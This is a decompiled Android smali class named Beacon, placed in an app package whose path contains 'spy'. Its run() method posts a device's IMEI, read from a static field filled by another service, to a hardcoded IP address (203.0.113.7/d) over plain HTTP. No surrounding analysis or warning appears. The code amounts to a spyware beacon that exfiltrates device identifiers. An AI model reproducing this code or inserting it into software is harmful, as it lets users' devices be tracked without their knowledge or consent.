.class public Lcom/appwarden/screen/spy/Beacon;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;

.field public static id:Ljava/lang/String;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

# the IMEI kept in a static field by SyncService, posted with Apache HttpClient
.method public run()V
    .registers 5
    new-instance v0, Lorg/apache/http/client/methods/HttpPost;
    const-string v1, "http://203.0.113.7/d"
    invoke-direct {v0, v1}, Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
    new-instance v1, Lorg/apache/http/entity/StringEntity;
    sget-object v2, Lcom/appwarden/screen/spy/Beacon;->id:Ljava/lang/String;
    invoke-direct {v1, v2}, Lorg/apache/http/entity/StringEntity;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0, v1}, Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
    new-instance v2, Lorg/apache/http/impl/client/DefaultHttpClient;
    invoke-direct {v2}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
    invoke-virtual {v2, v0}, Lorg/apache/http/impl/client/DefaultHttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
    return-void
.end method
